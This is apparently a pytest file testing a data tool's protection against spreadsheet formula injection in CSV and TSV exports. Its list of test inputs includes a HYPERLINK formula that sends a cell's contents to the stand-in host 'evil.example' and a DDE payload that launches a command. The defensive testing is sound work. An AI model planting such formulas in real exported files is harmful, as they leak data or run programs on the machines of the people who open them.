"""What a spreadsheet would compute is written as a text where that is asked for."""

from pathlib import Path

import pytest
from tests.commands_for_tests import assert_refused, script

from textassay.data.formulas import escape_formula
from textassay.data.read import read_file

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1",
    "\t=1", "\r\n=1", "＝1+1", "=", "-- said she", "-1-1", "+49 30 1=1",
]  # fmt: skip
HARMLESS = ["a=1", "good", "", "-5", "+3.25", "-1e-5", " -5 % ", "-1,000.5", "'=1", "5-3", None]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_begins_like_a_formula_is_escaped(cell: str) -> None:
    assert escape_formula(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_texts_and_numbers_are_left_alone(cell: str | None) -> None:
    assert escape_formula(cell) == cell


def write_source(folder: Path) -> Path:
    path = folder / "in.jsonl"
    texts = ["=1+cmd() is what they said", "a good film", "-5"]
    lines = [f'{{"text": "{text}", "label": "+good", "@note": "=2"}}\n' for text in texts]
    path.write_text("".join(lines))
    return path


@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_clean_escapes_where_it_is_asked_to(suffix: str, tmp_path: Path) -> None:
    clean, source = script("clean"), write_source(tmp_path)
    for flags, sign in (((), ""), (("--escape_formulas",), "'")):
        out = tmp_path / f"out{len(flags)}.{suffix}"
        done = clean(source, "--output", out, *flags)
        assert done.exit_code == 0, done.output
        back = {name: cells.to_pylist() for name, cells in read_file(out).columns.items()}
        assert back == {
            "text": [f"{sign}=1+cmd() is what they said", "a good film", "-5"],
            "label": [f"{sign}+good"] * 3,
            f"{sign}@note": [f"{sign}=2"] * 3,
        }


@pytest.mark.parametrize("output", ["out.jsonl", "out.parquet"])
def test_what_no_spreadsheet_opens_is_refused(output: str, tmp_path: Path) -> None:
    source = write_source(tmp_path)
    refused = script("clean")(source, "--output", tmp_path / output, "--escape_formulas")
    assert_refused(refused, 2, "--escape_formulas: is for an --output that ends in .csv or .tsv")
    refused = script("predict")("model", "--text", "a", "--escape_formulas")
    assert_refused(refused, 2, "and this is standard output")
